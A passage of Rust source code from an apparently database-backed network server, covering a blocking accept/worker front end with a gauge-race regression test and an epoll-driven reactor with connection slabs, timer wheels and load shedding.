            thread::Builder::new()
                .name(format!("septic-net-worker-{i}"))
                .spawn(move || worker_loop(&shared))
                .expect("spawn worker")
        })
        .collect();

    let accept_shared = Arc::clone(&shared);
    let accept_thread = thread::Builder::new()
        .name("septic-net-accept".into())
        .spawn(move || accept_loop(&listener, &accept_shared))
        .expect("spawn accept loop");

    Ok(NetServerHandle {
        addr,
        shared,
        accept_thread: Some(accept_thread),
        workers,
    })
}

fn accept_loop(listener: &TcpListener, shared: &Shared) {
    let mut errors_in_row: u32 = 0;
    loop {
        let stream = match listener.accept() {
            Ok((stream, _)) => {
                errors_in_row = 0;
                stream
            }
            Err(_) => {
                if shared.shutting_down.load(Ordering::SeqCst) {
                    return;
                }
                // A persistent failure (EMFILE fd exhaustion, say) would
                // otherwise retry in a hot loop and pin a core. Back off
                // exponentially, bounded so recovery is still prompt.
                shared.metrics.accept_errors.inc();
                errors_in_row = errors_in_row.saturating_add(1);
                let backoff = Duration::from_millis((1u64 << errors_in_row.min(7)).min(100));
                thread::sleep(backoff);
                continue;
            }
        };
        if shared.shutting_down.load(Ordering::SeqCst) {
            return;
        }
        shared.metrics.accepted.inc();
        // The length can only shrink between this check and the
        // publication below (workers pop, and only this thread pushes),
        // so the bound holds without carrying the lock across.
        if shared.lock_queue().len() >= shared.config.accept_queue {
            // Load shed: a bounded queue plus an explicit reject beats
            // unbounded queueing every time the pool is saturated.
            shared.metrics.rejected_busy.inc();
            reject_busy(stream, shared);
            continue;
        }
        shared.enqueue(stream);
    }
}

/// Best-effort `ServerBusy` frame on a connection we refuse to serve.
/// Runs on a throwaway thread: a peer that stalls the write must not
/// stall the accept loop with it (the write timeout bounds the thread's
/// life, not the listener's).
fn reject_busy(mut stream: TcpStream, shared: &Shared) {
    let busy = Response::ServerBusy {
        reason: format!(
            "accept queue full ({} waiting, {} workers busy)",
            shared.config.accept_queue, shared.config.workers
        ),
    };
    let max_frame_len = shared.config.max_frame_len;
    let spawned = thread::Builder::new()
        .name("septic-net-reject".into())
        .spawn(move || {
            let _ = stream.set_write_timeout(Some(Duration::from_millis(200)));
            let _ = write_frame(&mut stream, &busy, max_frame_len);
        });
    // Out of threads: drop the connection unrejected rather than risk
    // the accept loop.
    drop(spawned);
}

fn worker_loop(shared: &Shared) {
    loop {
        let stream = {
            let mut queue = shared.lock_queue();
            loop {
                if let Some(stream) = queue.pop_front() {
                    break stream;
                }
                if shared.shutting_down.load(Ordering::SeqCst) {
                    return;
                }
                queue = shared
                    .queue_cv
                    .wait(queue)
                    .unwrap_or_else(std::sync::PoisonError::into_inner);
            }
        };
        // Gauge accounting survives handler panics: the guard decrements
        // whether `serve_connection` returns or unwinds.
        let guard = ActiveGuard(shared);
        let outcome = catch_unwind(AssertUnwindSafe(|| serve_connection(stream, shared)));
        if outcome.is_err() {
            shared.metrics.handler_panics.inc();
        }
        drop(guard);
    }
}

fn serve_connection(mut stream: TcpStream, shared: &Shared) {
    let cfg = &shared.config;
    let _ = stream.set_read_timeout(Some(cfg.read_timeout));
    let _ = stream.set_nodelay(true);
    let conn = shared.server.connect();
    loop {
        let t = Instant::now();
        let request: Request = match read_frame(&mut stream, cfg.max_frame_len) {
            Ok(req) => {
                shared
                    .metrics
                    .read_wait
                    .record_us(saturating_micros(t.elapsed()));
                shared.metrics.frames_read.inc();
                req
            }
            Err(FrameError::Closed) => return,
            Err(err @ (FrameError::Oversized { .. } | FrameError::Decode(_))) => {
                shared.metrics.decode_errors.inc();
                let _ = write_frame(
                    &mut stream,
                    &Response::Error {
                        message: err.to_string(),
                    },
                    cfg.max_frame_len,
                );
                return;
            }
            Err(err) => {
                if err.is_timeout() {
                    shared.metrics.read_timeouts.inc();
                }
                return;
            }
        };
        let t = Instant::now();
        let responses: Vec<Response> = match request {
            Request::Hello { .. } => vec![Response::Hello {
                version: PROTOCOL_VERSION,
            }],
            Request::Ping => vec![Response::Pong],
            Request::Query(q) => {
                shared.metrics.requests.inc();
                vec![run_query(shared, &conn, &q)]
            }
            Request::Batch(queries) => {
                if queries.len() > cfg.max_pipeline {
                    shared.metrics.pipeline_rejects.inc();
                    vec![Response::ServerBusy {
                        reason: format!(
                            "batch of {} exceeds the pipelining limit of {}",
                            queries.len(),
                            cfg.max_pipeline
                        ),
                    }]
                } else {
                    shared.metrics.requests.add(queries.len() as u64);
                    queries
                        .iter()
                        .map(|q| run_query(shared, &conn, q))
                        .collect()
                }
            }
        };
        shared
            .metrics
            .handle
            .record_us(saturating_micros(t.elapsed()));
        let t = Instant::now();
        for response in &responses {
            if write_frame(&mut stream, response, cfg.max_frame_len).is_err() {
                return;
            }
        }
        shared
            .metrics
            .write
            .record_us(saturating_micros(t.elapsed()));
    }
}

fn run_query(shared: &Shared, conn: &septic_dbms::Connection, q: &QueryRequest) -> Response {
    if let Some(marker) = &shared.config.panic_marker {
        assert!(
            !q.sql.contains(marker.as_str()),
            "injected net-handler fault: sql contains panic marker {marker:?}"
        );
    }
    let outcome = match &q.params {
        Some(params) => conn.execute_prepared(&q.sql, params),
        None => conn.execute(&q.sql),
    };
    Response::from_outcome(&outcome)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::mpsc;

    /// A `Shared` with no threads attached, for driving the hand-off
    /// queue directly.
    fn bare_shared() -> Arc<Shared> {
        let server = Server::new();
        let metrics = NetMetrics::register(&server);
        Arc::new(Shared {
            server,
            config: NetServerConfig::default(),
            queue: Mutex::new(VecDeque::new()),
            queue_cv: Condvar::new(),
            shutting_down: AtomicBool::new(false),
            active: AtomicU64::new(0),
            metrics,
        })
    }

    /// A small pool of real connected streams to circulate through the
    /// queue.
    fn stream_pool(n: usize) -> Vec<TcpStream> {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
        let addr = listener.local_addr().expect("addr");
        (0..n)
            .map(|_| {
                let c = TcpStream::connect(addr).expect("connect");
                let _ = listener.accept().expect("accept");
                c
            })
            .collect()
    }

    #[test]
    fn enqueue_publishes_stream_and_gauge_atomically() {
        // Regression: the accept path used to push the stream, release
        // the queue lock, and only then increment the active gauge. A
        // worker popping in that window served and decremented first,
        // underflowing the unsigned gauge to ~u64::MAX (a worker-killing
        // panic in debug builds). This drives the real publication path
        // at memory speed against a worker-shaped consumer — pop,
        // decrement, recycle — so any decrement-before-increment
        // interleaving underflows within the cycle budget; with the
        // increment under the lock it cannot, on any schedule. (On a
        // single-core host the old bug needs an involuntary preemption
        // inside a nanosecond window to fire, so this test is strongest
        // on multi-core runners; the TCP-level storm in
        // tests/net_wire.rs covers the end-to-end settle-to-zero
        // property either way.)
        const CYCLES: u64 = 100_000;
        let shared = bare_shared();
        let streams = stream_pool(4);
        let (back_tx, back_rx) = mpsc::channel::<TcpStream>();

        let consumer = {
            let shared = Arc::clone(&shared);
            let back_tx = back_tx.clone();
            thread::spawn(move || {
                let mut served = 0u64;
                while served < CYCLES {
                    let popped = shared.lock_queue().pop_front();
                    if let Some(stream) = popped {
                        // What a worker does once its connection ends.
                        shared.set_active(-1);
                        served += 1;
                        if back_tx.send(stream).is_err() {
                            return;
                        }
                    } else {
                        thread::yield_now();
                    }
                }
            })
        };

        for stream in streams {
            back_tx.send(stream).expect("prime pool");
        }
        let mut published = 0u64;
        while published < CYCLES {
            let stream = back_rx.recv().expect("recycle");
            shared.enqueue(stream);
            published += 1;
            let active = shared.active.load(Ordering::SeqCst);
            assert!(
                active <= 4,
                "active gauge corrupt with 4 circulating streams: {active}"
            );
        }
        consumer
            .join()
            .expect("consumer must not panic (debug-build gauge underflow)");
        assert_eq!(shared.active.load(Ordering::SeqCst), 0);
    }
}
