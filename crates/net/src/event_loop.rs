//! The epoll-driven front end: reactor shards + a bounded worker pool.
//!
//! # Architecture
//!
//! ```text
//!             ┌────────────────────────────┐
//!   listener ─┤ reactor shard 0 (epoll)    │──┐
//!  (EPOLL-    ├────────────────────────────┤  │  bounded MPSC   ┌─────────┐
//!   EXCLUSIVE)│ reactor shard 1 (epoll)    │──┼────────────────▶│ workers │
//!             └────────────────────────────┘  │   (try_send,    │ (dbms   │
//!                 ▲        commands + waker   │    Full ⇒ shed) │ pool)   │
//!                 └───────────────────────────┴─────────────────┴─────────┘
//! ```
//!
//! Each reactor shard owns an epoll instance, a slab of connection
//! state machines ([`crate::conn::Conn`]), and a hashed timer wheel.
//! The shared listener is registered in every shard with
//! `EPOLLEXCLUSIVE`, so the kernel wakes one shard per pending accept
//! instead of thundering the herd. An idle connection costs its `Conn`
//! struct — a few hundred bytes — not a parked thread.
//!
//! Query execution never happens on a reactor: complete frames go over
//! a **bounded** `sync_channel` to the worker pool (session-per-thread
//! dbms execution, `catch_unwind` panic containment, exactly like the
//! blocking front end). Admission control is preserved end to end: a
//! full worker channel sheds the queued requests with `ServerBusy`, a
//! connection count past `max_connections` is shed at accept, and the
//! per-connection pending queue is capped at `max_pipeline` by pausing
//! read interest until a worker drains it — back-pressure by readiness,
//! not by buffering.
//!
//! Workers write responses straight to the socket when it accepts them
//! (the common case — one syscall, no reactor round trip) and only fall
//! back to arming `EPOLLOUT` via a command + eventfd wake when the
//! kernel buffer is full.
//!
//! The slowloris/idle timeout is a hashed timer wheel per shard:
//! deadlines are bucketed by tick, refreshed lazily (read progress just
//! moves `Conn::deadline`; the stale wheel entry re-inserts itself when
//! it pops early). Connections with work in flight are never reaped —
//! only quiet ones, matching the blocking front end's read timeout.

use std::io::{self, Write};
use std::net::{SocketAddr, TcpListener, TcpStream, ToSocketAddrs};
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::mpsc::{Receiver, SyncSender, TrySendError};
use std::sync::{mpsc, Arc, Mutex, MutexGuard, PoisonError};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use septic_dbms::Server;
use septic_telemetry::saturating_micros;

use crate::conn::{Conn, ReadPass};
use crate::frame::{write_frame, FrameError, QueryRequest, Request, Response, PROTOCOL_VERSION};
use crate::poll::{Poller, Waker, INTEREST_READ, INTEREST_WRITE};
use crate::server::{NetMetrics, NetServerConfig};

/// Token of the shared listener in every shard's poller.
const TOKEN_LISTENER: u64 = 0;
/// Token of the shard's eventfd waker.
const TOKEN_WAKER: u64 = 1;
/// First token available to connections.
const TOKEN_BASE: u64 = 2;
/// Timer wheel granularity — also the poll timeout, so timers and the
/// shutdown flag are observed within one tick even with no I/O.
const TICK: Duration = Duration::from_millis(25);
/// Timer wheel slots; deadlines further out than `TICK * SLOTS` park in
/// the last slot and lazily re-insert when they pop early.
const WHEEL_SLOTS: usize = 256;

/// What a worker asks its connection's reactor to do. Delivered through
/// the shard's command queue plus an eventfd wake.
enum Command {
    /// The socket refused bytes mid-response: arm `EPOLLOUT`.
    ArmWrite(u64),
    /// The worker drained the pending queue: resume read interest if it
    /// was paused, or finish a deferred close.
    RearmRead(u64),
    /// Tear the connection down (write failure, handler panic).
    Close(u64),
}

/// Per-shard mailbox: the only channel from workers back to a reactor.
struct ShardHandle {
    commands: Mutex<Vec<Command>>,
    waker: Waker,
}

impl ShardHandle {
    fn push(&self, cmd: Command) {
        self.commands
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .push(cmd);
        self.waker.wake();
    }
}

/// State shared by reactors, workers and the handle.
struct EvShared {
    server: Arc<Server>,
    config: NetServerConfig,
    metrics: NetMetrics,
    shutting_down: AtomicBool,
    /// Live connections across all shards.
    active: AtomicU64,
    shards: Vec<ShardHandle>,
}

impl EvShared {
    fn set_active(&self, delta: i64) {
        // Increments always precede the matching decrement (a conn
        // enters the slab before any worker can close it), so the
        // subtraction cannot underflow.
        let now = if delta >= 0 {
            self.active.fetch_add(delta as u64, Ordering::SeqCst) + delta as u64
        } else {
            self.active.fetch_sub((-delta) as u64, Ordering::SeqCst) - (-delta) as u64
        };
        self.metrics.active_gauge.set(now);
    }
}

/// One unit of work: a connection with at least one pending request.
struct Job {
    shard: usize,
    token: u64,
    conn: Arc<Mutex<Conn>>,
}

fn lock_conn(conn: &Arc<Mutex<Conn>>) -> MutexGuard<'_, Conn> {
    conn.lock().unwrap_or_else(PoisonError::into_inner)
}

/// Connection slab with generation-tagged tokens: a token is
/// `generation << 32 | (index + TOKEN_BASE)`, so a stale token (timer
/// entry or command for a closed connection whose slot was reused)
/// fails the generation check instead of hitting the new tenant.
struct Slab {
    entries: Vec<Option<Arc<Mutex<Conn>>>>,
    gens: Vec<u32>,
    free: Vec<usize>,
}

impl Slab {
    fn new() -> Slab {
        Slab {
            entries: Vec::new(),
            gens: Vec::new(),
            free: Vec::new(),
        }
    }

    fn insert(&mut self, conn: Arc<Mutex<Conn>>) -> u64 {
        let idx = match self.free.pop() {
            Some(idx) => {
                self.entries[idx] = Some(conn);
                idx
            }
            None => {
                self.entries.push(Some(conn));
                self.gens.push(1);
                self.entries.len() - 1
            }
        };
        (u64::from(self.gens[idx]) << 32) | (idx as u64 + TOKEN_BASE)
    }

    fn index_of(&self, token: u64) -> Option<usize> {
        let idx = ((token & 0xFFFF_FFFF) as usize).checked_sub(TOKEN_BASE as usize)?;
        let gen = (token >> 32) as u32;
        if self.gens.get(idx) == Some(&gen) && self.entries[idx].is_some() {
            Some(idx)
        } else {
            None
        }
    }

    fn get(&self, token: u64) -> Option<&Arc<Mutex<Conn>>> {
        self.index_of(token)
            .and_then(|idx| self.entries[idx].as_ref())
    }

    fn remove(&mut self, token: u64) -> Option<Arc<Mutex<Conn>>> {
        let idx = self.index_of(token)?;
        let conn = self.entries[idx].take();
        self.gens[idx] = self.gens[idx].wrapping_add(1);
        self.free.push(idx);
        conn
    }

    fn drain(&mut self) -> Vec<Arc<Mutex<Conn>>> {
        self.free.clear();
        self.entries.iter_mut().filter_map(Option::take).collect()
    }
}

/// Hashed timer wheel: `WHEEL_SLOTS` buckets of `TICK` each. Insertion
/// is O(1); expiry drains the slots the cursor sweeps past. Entries are
/// *hints* — the connection's own `deadline` is authoritative, and an
/// entry that pops before its (since-refreshed) deadline just re-inserts.
struct TimerWheel {
    slots: Vec<Vec<u64>>,
    cursor: usize,
    cursor_time: Instant,
}

impl TimerWheel {
    fn new(now: Instant) -> TimerWheel {
        TimerWheel {
            slots: (0..WHEEL_SLOTS).map(|_| Vec::new()).collect(),
            cursor: 0,
            cursor_time: now,
        }
    }

    fn insert(&mut self, token: u64, deadline: Instant) {
        let ahead = deadline.saturating_duration_since(self.cursor_time);
        let ticks = (ahead.as_millis() as u64 / TICK.as_millis() as u64 + 1)
            .min(self.slots.len() as u64 - 1) as usize;
        let slot = (self.cursor + ticks) % self.slots.len();
        self.slots[slot].push(token);
    }

    /// Moves the cursor up to `now`, draining swept slots into `out`.
    fn advance(&mut self, now: Instant, out: &mut Vec<u64>) {
        while now.saturating_duration_since(self.cursor_time) >= TICK {
            self.cursor = (self.cursor + 1) % self.slots.len();
            self.cursor_time += TICK;
            out.append(&mut self.slots[self.cursor]);
        }
    }
}

/// One reactor shard: epoll instance, listener clone, connection slab,
/// timer wheel.
struct Reactor {
    shard: usize,
    poller: Poller,
    listener: TcpListener,
    slab: Slab,
    wheel: TimerWheel,
    shared: Arc<EvShared>,
    jobs: SyncSender<Job>,
    /// Consecutive `accept()` failures, for bounded backoff.
    accept_errors_in_row: u32,
    /// While set, the listener is deregistered (accept backoff) and
    /// re-registers at this instant.
    accept_resume: Option<Instant>,
}

impl Reactor {
    fn run(mut self) {
        let mut events = Vec::new();
        let mut expired = Vec::new();
        loop {
            events.clear();
            #[allow(clippy::cast_possible_truncation)]
            let timeout = TICK.as_millis() as i32;
            if self.poller.wait(&mut events, timeout).is_err() {
                // The epoll fd itself failed — nothing readiness-driven
                // can continue on this shard.
                break;
            }
            if self.shared.shutting_down.load(Ordering::SeqCst) {
                break;
            }
            for &ev in &events {
                match ev.token {
                    TOKEN_LISTENER => self.accept_burst(),
                    TOKEN_WAKER => self.shared.shards[self.shard].waker.drain(),
                    token => self.conn_event(token, ev.is_readable(), ev.is_writable()),
                }
            }
            self.drain_commands();
            self.expire_timers(&mut expired);
            self.maybe_resume_accepts();
        }
        self.cleanup();
    }

    /// Accepts until the listener runs dry. Never blocks: the listener
    /// is nonblocking.
    fn accept_burst(&mut self) {
        if self.accept_resume.is_some() {
            return;
        }
        loop {
            match self.listener.accept() {
                Ok((stream, _)) => {
                    self.accept_errors_in_row = 0;
                    self.admit(stream);
                }
                Err(e) if e.kind() == io::ErrorKind::WouldBlock => return,
                Err(e) if e.kind() == io::ErrorKind::Interrupted => {}
                Err(_) => {
                    if self.shared.shutting_down.load(Ordering::SeqCst) {
                        return;
                    }
                    // EMFILE and friends: with level-triggered epoll a
                    // hot retry loop would pin the core. Deregister the
                    // listener and re-register after a bounded backoff.
                    self.shared.metrics.accept_errors.inc();
                    self.accept_errors_in_row = self.accept_errors_in_row.saturating_add(1);
                    let backoff_ms = (1u64 << self.accept_errors_in_row.min(7)).min(100);
                    let _ = self.poller.deregister(&self.listener);
                    self.accept_resume = Some(Instant::now() + Duration::from_millis(backoff_ms));
                    return;
                }
            }
        }
    }

    fn admit(&mut self, stream: TcpStream) {
        let shared = Arc::clone(&self.shared);
        shared.metrics.accepted.inc();
        if shared.active.load(Ordering::SeqCst) >= shared.config.max_connections as u64 {
            shared.metrics.rejected_busy.inc();
            shed_busy(
                stream,
                &format!(
                    "connection limit reached ({} active)",
                    shared.config.max_connections
                ),
                shared.config.max_frame_len,
            );
            return;
        }
        if stream.set_nonblocking(true).is_err() {
            return;
        }
        let _ = stream.set_nodelay(true);
        let deadline = Instant::now() + shared.config.read_timeout;
        let conn = Arc::new(Mutex::new(Conn::new(
            stream,
            shared.server.connect(),
            deadline,
        )));
        let token = self.slab.insert(Arc::clone(&conn));
        {
            let c = lock_conn(&conn);
            if self
                .poller
                .register(&c.stream, token, INTEREST_READ, false)
                .is_err()
            {
                drop(c);
                self.slab.remove(token);
                return;
            }
        }
        shared.set_active(1);
        self.wheel.insert(token, deadline);
    }

    /// Dispatches readiness on a connection token.
    fn conn_event(&mut self, token: u64, readable: bool, writable: bool) {
        let Some(conn) = self.slab.get(token).cloned() else {
            return;
        };
        let mut close = false;
        {
            let mut c = lock_conn(&conn);
            if c.closed {
                return;
            }
            if writable && c.want_write {
                match c.flush() {
                    Ok(true) => {
                        c.want_write = false;
                        if c.close_after_flush && c.pending.is_empty() && !c.busy {
                            close = true;
                        } else {
                            self.update_interest(&c, token);
                        }
                    }
                    Ok(false) => {}
                    Err(_) => close = true,
                }
            }
            if !close && readable && !c.paused && !c.close_after_flush {
                close = self.read_ready(&mut c, &conn, token);
            }
        }
        if close {
            self.close_conn(token);
        }
    }

    /// Runs a read pass and routes its outcome. Returns `true` when the
    /// connection should close now.
    fn read_ready(&mut self, c: &mut Conn, conn: &Arc<Mutex<Conn>>, token: u64) -> bool {
        let cfg = &self.shared.config;
        let room = cfg.max_pipeline.saturating_sub(c.pending.len());
        if room == 0 {
            // Back-pressure: stop reading until a worker drains the
            // queue; level-triggered epoll re-fires once rearmed.
            c.paused = true;
            self.update_interest(c, token);
            return false;
        }
        match c.read_pass(cfg.max_frame_len, room) {
            ReadPass::Progress { frames, any_bytes } => {
                if any_bytes {
                    // Lazy timer refresh: the wheel entry stays put; it
                    // re-inserts against this new deadline when it pops.
                    c.deadline = Instant::now() + cfg.read_timeout;
                }
                self.enqueue_frames(c, conn, token, frames);
                false
            }
            ReadPass::Closed { frames } => {
                if frames.is_empty() && c.pending.is_empty() && !c.busy && c.backlog() == 0 {
                    return true;
                }
                // The peer half-closed after pipelining requests: finish
                // the work, flush, then close.
                self.enqueue_frames(c, conn, token, frames);
                c.close_after_flush = true;
                c.paused = true;
                self.update_interest(c, token);
                false
            }
            ReadPass::Broken(err) => match err {
                err @ (FrameError::Oversized { .. } | FrameError::Decode(_)) => {
                    // Same contract as the blocking front end: one
                    // best-effort error frame, then close.
                    self.shared.metrics.decode_errors.inc();
                    let mut bytes = Vec::new();
                    let _ = write_frame(
                        &mut bytes,
                        &Response::Error {
                            message: err.to_string(),
                        },
                        cfg.max_frame_len,
                    );
                    c.queue_bytes(&bytes);
                    c.close_after_flush = true;
                    c.paused = true;
                    match c.flush() {
                        Ok(true) if c.pending.is_empty() && !c.busy => true,
                        Ok(true) => {
                            self.update_interest(c, token);
                            false
                        }
                        Ok(false) => {
                            c.want_write = true;
                            self.update_interest(c, token);
                            false
                        }
                        Err(_) => true,
                    }
                }
                // Mid-frame disconnect or hard I/O error.
                _ => true,
            },
        }
    }

    /// Queues decoded frames in arrival order and hands the connection
    /// to a worker if none owns it yet.
    fn enqueue_frames(
        &mut self,
        c: &mut Conn,
        conn: &Arc<Mutex<Conn>>,
        token: u64,
        frames: Vec<Request>,
    ) {
        if frames.is_empty() {
            return;
        }
        self.shared.metrics.frames_read.add(frames.len() as u64);
        for frame in frames {
            c.pending.push_back(frame);
        }
        if c.pending.len() >= self.shared.config.max_pipeline {
            c.paused = true;
            self.update_interest(c, token);
        }
        self.dispatch(c, conn, token);
    }

    /// Hands a connection with pending requests to the worker pool.
    /// A full channel is admission control firing: the pending requests
    /// are shed with `ServerBusy` instead of buffering unboundedly.
    fn dispatch(&mut self, c: &mut Conn, conn: &Arc<Mutex<Conn>>, token: u64) {
        if c.busy || c.closed || c.pending.is_empty() {
            return;
        }
        c.busy = true;
        match self.jobs.try_send(Job {
            shard: self.shard,
            token,
            conn: Arc::clone(conn),
        }) {
            Ok(()) => {}
            Err(TrySendError::Full(_)) => {
                c.busy = false;
                let reason = format!(
                    "worker queue full ({} workers saturated)",
                    self.shared.config.workers.max(1)
                );
                let mut bytes = Vec::new();
                while let Some(_req) = c.pending.pop_front() {
                    self.shared.metrics.rejected_busy.inc();
                    let _ = write_frame(
                        &mut bytes,
                        &Response::ServerBusy {
                            reason: reason.clone(),
                        },
                        self.shared.config.max_frame_len,
                    );
                }
                c.queue_bytes(&bytes);
                match c.flush() {
                    Ok(true) => {}
                    Ok(false) => {
                        c.want_write = true;
                        self.update_interest(c, token);
                    }
                    Err(_) => {
                        // Tear down via the command path so the caller's
                        // lock scope stays simple.
                        self.shared.shards[self.shard].push(Command::Close(token));
                    }
                }
            }
            Err(TrySendError::Disconnected(_)) => c.busy = false,
        }
    }

    fn update_interest(&self, c: &Conn, token: u64) {
        let mut interest = 0u32;
        if !c.paused && !c.close_after_flush {
            interest |= INTEREST_READ;
        }
        if c.want_write {
            interest |= INTEREST_WRITE;
        }
        let _ = self.poller.reregister(&c.stream, token, interest);
    }

    fn drain_commands(&mut self) {
        let cmds = {
            let mut q = self.shared.shards[self.shard]
                .commands
                .lock()
                .unwrap_or_else(PoisonError::into_inner);
            std::mem::take(&mut *q)
        };
        for cmd in cmds {
            match cmd {
                Command::ArmWrite(token) => self.on_arm_write(token),
                Command::RearmRead(token) => self.on_rearm_read(token),
                Command::Close(token) => self.close_conn(token),
            }
        }
    }

    fn on_arm_write(&mut self, token: u64) {
        let Some(conn) = self.slab.get(token).cloned() else {
            return;
        };
        let mut close = false;
        {
            let mut c = lock_conn(&conn);
            if c.closed {
                return;
            }
            // The socket may have drained between the worker's command
            // and now; try once before arming EPOLLOUT.
            match c.flush() {
                Ok(true) => {
                    c.want_write = false;
                    if c.close_after_flush && c.pending.is_empty() && !c.busy {
                        close = true;
                    } else {
                        self.update_interest(&c, token);
                    }
                }
                Ok(false) => {
                    c.want_write = true;
                    self.update_interest(&c, token);
                }
                Err(_) => close = true,
            }
        }
        if close {
            self.close_conn(token);
        }
    }

    fn on_rearm_read(&mut self, token: u64) {
        let Some(conn) = self.slab.get(token).cloned() else {
            return;
        };
        let mut close = false;
        {
            let mut c = lock_conn(&conn);
            if c.closed {
                return;
            }
            if c.close_after_flush {
                if c.pending.is_empty() && !c.busy && c.backlog() == 0 && !c.want_write {
                    close = true;
                }
            } else {
                if c.paused && c.pending.len() < self.shared.config.max_pipeline {
                    c.paused = false;
                    self.update_interest(&c, token);
                }
                // Frames may have arrived while the worker was winding
                // down — they need a fresh job.
                self.dispatch(&mut c, &conn, token);
            }
        }
        if close {
            self.close_conn(token);
        }
    }

    fn expire_timers(&mut self, expired: &mut Vec<u64>) {
        expired.clear();
        self.wheel.advance(Instant::now(), expired);
        for &token in expired.iter() {
            let Some(conn) = self.slab.get(token).cloned() else {
                continue; // closed since the entry was inserted
            };
            let now = Instant::now();
            let reinsert = {
                let mut c = lock_conn(&conn);
                if c.deadline > now {
                    Some(c.deadline) // refreshed by reads: lazy re-insert
                } else if c.busy || !c.pending.is_empty() || c.backlog() > 0 {
                    // Work in flight is not idleness: only quiet
                    // connections are reaped, like the blocking front
                    // end's per-read timeout.
                    c.deadline = now + self.shared.config.read_timeout;
                    Some(c.deadline)
                } else {
                    None
                }
            };
            match reinsert {
                Some(deadline) => self.wheel.insert(token, deadline),
                None => {
                    // Idle past the deadline, or a slowloris stall
                    // mid-frame: either way the timeout fires.
                    self.shared.metrics.read_timeouts.inc();
                    self.close_conn(token);
                }
            }
        }
    }

    fn maybe_resume_accepts(&mut self) {
        if let Some(resume) = self.accept_resume {
            if Instant::now() >= resume {
                self.accept_resume = None;
                let exclusive = self.shared.shards.len() > 1;
                let _ =
                    self.poller
                        .register(&self.listener, TOKEN_LISTENER, INTEREST_READ, exclusive);
                self.accept_burst();
            }
        }
    }

    fn close_conn(&mut self, token: u64) {
        let Some(conn) = self.slab.remove(token) else {
            return;
        };
        {
            let mut c = lock_conn(&conn);
            c.closed = true; // late worker completions drop their output
            let _ = self.poller.deregister(&c.stream);
        }
        self.shared.set_active(-1);
        self.shared.metrics.closed.inc();
    }

    fn cleanup(&mut self) {
        for conn in self.slab.drain() {
            let mut c = lock_conn(&conn);
            c.closed = true;
            let _ = self.poller.deregister(&c.stream);
            drop(c);
            self.shared.set_active(-1);
            self.shared.metrics.closed.inc();
        }
    }
}

/// Best-effort `ServerBusy` on a connection shed at accept. One
/// nonblocking write — a peer that can't take it immediately just sees
/// the close.
fn shed_busy(mut stream: TcpStream, reason: &str, max_frame_len: u32) {
    let mut bytes = Vec::new();
    if write_frame(
        &mut bytes,
        &Response::ServerBusy {
            reason: reason.to_string(),
        },
        max_frame_len,
    )
    .is_ok()
    {
        let _ = stream.set_nonblocking(true);
        let _ = stream.write(&bytes);
    }
}

fn worker_loop(shared: &Arc<EvShared>, jobs: &Arc<Mutex<Receiver<Job>>>) {
    loop {
        // std mpsc is single-consumer: workers take turns holding the
        // receiver. The hand-off serializes for microseconds; execution
        // after it is fully parallel.
        let job = {
            let rx = jobs.lock().unwrap_or_else(PoisonError::into_inner);
            match rx.recv() {
                Ok(job) => job,
                Err(_) => return, // all reactors gone: shutdown
            }
        };
        drive_conn(shared, &job);
    }
}

/// Drains a connection's pending queue: execute, encode, write. The
/// conn lock is never held across query execution — only across buffer
/// shuffling — so reactors stay responsive.
fn drive_conn(shared: &Arc<EvShared>, job: &Job) {
    loop {
        let (request, dbms) = {
            let mut c = lock_conn(&job.conn);
            if c.closed {
                c.busy = false;
                return;
            }
            match c.pending.pop_front() {
                Some(request) => (request, c.dbms.clone()),
                None => {
                    c.busy = false;
                    let notify = c.paused || c.close_after_flush;
                    drop(c);
                    if notify {
                        shared.shards[job.shard].push(Command::RearmRead(job.token));
                    }
                    return;
                }
            }
        };
        let t = Instant::now();
        let outcome = catch_unwind(AssertUnwindSafe(|| handle_request(shared, &dbms, request)));
        shared
            .metrics
            .handle
            .record_us(saturating_micros(t.elapsed()));
        let responses = match outcome {
            Ok(responses) => responses,
            Err(_) => {
                // Same containment as the blocking front end: the panic
                // kills this connection, not the worker or the listener.
                shared.metrics.handler_panics.inc();
                let mut c = lock_conn(&job.conn);
                c.busy = false;
                drop(c);
                shared.shards[job.shard].push(Command::Close(job.token));
                return;
            }
        };
        let mut bytes = Vec::new();
        let encode_ok = responses
            .iter()
            .all(|r| write_frame(&mut bytes, r, shared.config.max_frame_len).is_ok());
        let mut c = lock_conn(&job.conn);
        if c.closed {
            c.busy = false;
            return;
        }
        if !encode_ok {
            c.busy = false;
            drop(c);
            shared.shards[job.shard].push(Command::Close(job.token));
            return;
        }
        c.queue_bytes(&bytes);
        let t = Instant::now();
        // Fast path: write straight to the socket from the worker. Only
        // a full kernel buffer costs a reactor round trip (EPOLLOUT).
        match c.flush() {
            Ok(true) => {
                shared
                    .metrics
                    .write
                    .record_us(saturating_micros(t.elapsed()));
            }
            Ok(false) => {
                shared
                    .metrics
                    .write
                    .record_us(saturating_micros(t.elapsed()));
                if !c.want_write {
                    c.want_write = true;
                    drop(c);
                    shared.shards[job.shard].push(Command::ArmWrite(job.token));
                }
            }
            Err(_) => {
                c.busy = false;
                drop(c);
                shared.shards[job.shard].push(Command::Close(job.token));
                return;
            }
        }
    }
}

fn handle_request(
    shared: &EvShared,
    dbms: &septic_dbms::Connection,
    request: Request,
) -> Vec<Response> {
    match request {
        Request::Hello { .. } => vec![Response::Hello {
            version: PROTOCOL_VERSION,
        }],
        Request::Ping => vec![Response::Pong],
        Request::Query(q) => {
            shared.metrics.requests.inc();
            vec![run_query(shared, dbms, &q)]
        }
        Request::Batch(queries) => {
            if queries.len() > shared.config.max_pipeline {
                shared.metrics.pipeline_rejects.inc();
                vec![Response::ServerBusy {
                    reason: format!(
                        "batch of {} exceeds the pipelining limit of {}",
                        queries.len(),
                        shared.config.max_pipeline
                    ),
                }]
            } else {
                shared.metrics.requests.add(queries.len() as u64);
                queries.iter().map(|q| run_query(shared, dbms, q)).collect()
            }
        }
    }
}

fn run_query(shared: &EvShared, dbms: &septic_dbms::Connection, q: &QueryRequest) -> Response {
    if let Some(marker) = &shared.config.panic_marker {
        assert!(
            !q.sql.contains(marker.as_str()),
            "injected net-handler fault: sql contains panic marker {marker:?}"
        );
    }
    let outcome = match &q.params {
